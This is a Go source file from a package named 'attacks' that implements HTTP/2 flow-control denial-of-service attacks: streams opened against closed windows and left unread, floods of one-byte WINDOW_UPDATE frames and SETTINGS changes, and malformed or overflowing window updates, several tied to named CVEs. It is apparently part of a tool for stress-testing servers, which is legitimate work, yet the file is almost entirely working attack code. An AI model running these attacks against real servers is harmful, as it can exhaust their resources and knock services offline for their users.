package attacks

import (
	"golang.org/x/net/http2"
)

// window is the setting of the initial window of streams.
func window(n uint32) http2.Setting {
	return http2.Setting{ID: http2.SettingInitialWindowSize, Val: n}
}

// shut is a connection on which no data may be sent.
var shut = Opening{Settings: []http2.Setting{window(0)}}

// windows are the attacks that keep answers from being sent.
var windows = []Attack{
	{Name: "closed windows, refusals", Run: func(a *Attacker) { a.stalled(manyConns, shut, pathAnonymous) }},
	{Name: "closed windows", Run: func(a *Attacker) { a.stalled(4, shut, sized(2000)) }},
	{Name: "closed windows, answers of 30 KB", Run: func(a *Attacker) { a.stalled(4, shut, sized(30_000)) }},
	{Name: "closed windows, answers of 1 MB", Run: func(a *Attacker) { a.stalled(4, shut, sized(1_000_000)) }},
	{Name: "closed window of the connection", Run: func(a *Attacker) { a.stalled(4, Opening{}, sized(4000)) }},
	{Name: "windows opened a byte at a time", CVE: "CVE-2019-9517", Run: func(a *Attacker) {
		for _, c := range a.stalled(2, shut, sized(2000)) {
			for i := range manyFrames {
				_ = c.WriteWindowUpdate(stream(i%100), 1)
				c.sent()
			}
			c.settle()
		}
	}},
	{Name: "window of the connection opened a byte at a time", CVE: "CVE-2019-9511", Run: func(a *Attacker) {
		for _, c := range a.stalled(2, Opening{}, sized(4000)) {
			for range manyFrames {
				_ = c.WriteWindowUpdate(0, 1)
				c.sent()
			}
			c.settle()
		}
	}},
	{Name: "settings that change all windows", Run: func(a *Attacker) {
		for _, c := range a.stalled(2, shut, sized(2000)) {
			for i := range manyFrames / 4 {
				_ = c.WriteSettings(window(uint32(i % 2)))
				c.sent()
			}
			c.settle()
		}
	}},
	{Name: "settings that open all windows a bit", Run: func(a *Attacker) {
		for _, c := range a.stalled(2, shut, sized(30_000)) {
			for i := range manyFrames / 40 {
				_ = c.WriteSettings(window(uint32(i)))
				c.sent()
			}
			c.settle()
		}
	}},
	{Name: "windows that grow too large", CVE: "CVE-2025-8671", Run: func(a *Attacker) {
		a.spread(2, manyFrames/2, Opening{}, func(c *Conn, i int) {
			c.head(stream(i), true, pathWait)
			_ = c.WriteWindowUpdate(stream(i), 1<<31-1)
			c.sent()
		})
	}},
	{Name: "window updates of nothing", CVE: "CVE-2025-8671", Run: func(a *Attacker) {
		a.spread(2, manyFrames/2, Opening{}, func(c *Conn, i int) {
			c.head(stream(i), true, pathWait)
			c.raw(http2.FrameWindowUpdate, 0, stream(i), make([]byte, 4))
		})
	}},
}

// stalled opens as many streams as allowed on several connections, and reads none of the answers.
func (a *Attacker) stalled(conns int, o Opening, path string) (all []*Conn) {
	for range conns {
		c := a.open(o)
		if c == nil {
			continue
		}
		for i := range manyStreams {
			c.head(stream(i), true, path)
		}
		c.settle()
		all = append(all, c)
	}
	return all
}
